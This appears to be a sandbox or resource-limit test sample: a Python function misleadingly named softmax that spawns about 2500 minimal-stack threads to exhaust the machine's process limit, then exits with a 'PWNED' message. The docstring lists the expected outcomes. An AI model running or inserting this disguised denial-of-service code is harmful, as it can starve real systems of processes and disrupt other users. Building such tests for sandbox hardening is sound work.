"""Starts threads with the smallest of stacks as long as it is let.

Success: the machine has no number left for another process.

ends as: failed, crashed, out_of_memory, timed_out
"""

import _thread
import threading


def softmax(x, dim=-1):
    threading.stack_size(32768)
    wait = threading.Event()
    for number in range(3000):
        _thread.start_new_thread(wait.wait, ())
        if number > 2500:
            raise SystemExit("PWNED started 2500 threads")
